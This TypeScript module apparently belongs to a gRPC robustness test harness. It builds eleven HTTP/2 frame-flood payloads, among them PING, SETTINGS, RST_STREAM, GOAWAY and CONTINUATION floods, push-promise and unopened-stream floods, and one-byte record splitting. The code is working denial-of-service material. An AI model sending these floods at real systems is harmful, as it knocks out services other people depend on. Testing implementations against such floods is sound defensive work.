/** Floods below gRPC: frames of HTTP/2, each kind a block that is sent again and again on the connection of a stream. */
import { frame } from "./attacks.ts";

export type FrameFlood =
  | "flood of PING frames"
  | "flood of SETTINGS frames"
  | "flood of WINDOW_UPDATE frames"
  | "flood of frames that say nothing"
  | "flood of RST_STREAM frames"
  | "flood of GOAWAY frames"
  | "flood of CONTINUATION frames"
  | "flood of interim responses"
  | "flood of promised streams"
  | "flood of streams that nobody opened"
  | "flood of records of a byte";

const [DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING] = [
  0, 1, 2, 3, 4, 5, 6,
];
const [GOAWAY, WINDOW_UPDATE, CONTINUATION, UNKNOWN] = [7, 8, 9, 0xfa];
const END_HEADERS = 4;
const MANY = 2000;

/** From the static table (RFC 7541 appendix A): ":status: 103" and "link: x", ":method: GET" and so on, ":status: 200". */
const EARLY_HINTS = Buffer.from("\x08\x03103\x0f\x1e\x01x", "latin1");
const REQUEST = Buffer.from("\x82\x87\x84\x01\x0borders.shop", "latin1");
const OK = Buffer.from([0x88]);
const PINGED = frame(PING, 0, 0, Buffer.alloc(8));

/** `stream` is open; `round` counts the blocks of a connection. A piece is written by itself. */
type Block = (stream: number, round: number) => readonly Buffer[];

export const FRAME_FLOODS: Readonly<Record<FrameFlood, Block>> = {
  "flood of PING frames": () => many(() => PINGED),
  "flood of SETTINGS frames": () => many(() => frame(SETTINGS, 0, 0)),
  "flood of WINDOW_UPDATE frames": () =>
    many(() => frame(WINDOW_UPDATE, 0, 0, number(1))),
  "flood of frames that say nothing": (stream) =>
    many(() =>
      Buffer.concat([
        frame(DATA, 0, stream),
        frame(PRIORITY, 0, stream, Buffer.alloc(5)),
        frame(UNKNOWN, 0, stream),
      ]),
    ),
  "flood of RST_STREAM frames": (stream) =>
    many(() => frame(RST_STREAM, 0, stream, number(8))),
  "flood of GOAWAY frames": () =>
    many(() =>
      frame(GOAWAY, 0, 0, Buffer.concat([number(0x7fffffff), number(0)])),
    ),
  "flood of CONTINUATION frames": (stream, round) => [
    ...(round === 0 ? [frame(HEADERS, 0, stream, OK)] : []),
    ...many(() => frame(CONTINUATION, 0, stream)),
  ],
  "flood of interim responses": (stream) =>
    many(() => frame(HEADERS, END_HEADERS, stream, EARLY_HINTS)),
  "flood of promised streams": (stream, round) =>
    many((index) => {
      const promised = (round * MANY + index + 1) * 2;
      const block = Buffer.concat([number(promised), REQUEST]);
      return frame(PUSH_PROMISE, END_HEADERS, stream, block);
    }),
  "flood of streams that nobody opened": (_, round) =>
    many((index) =>
      frame(HEADERS, END_HEADERS, (round * MANY + index + 1) * 2, OK),
    ),
  "flood of records of a byte": () =>
    Array.from(PINGED, (byte) => Buffer.from([byte])),
};

/** As one piece. */
function many(make: (index: number) => Buffer): readonly Buffer[] {
  return [
    Buffer.concat(Array.from({ length: MANY }, (_, index) => make(index))),
  ];
}

function number(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}
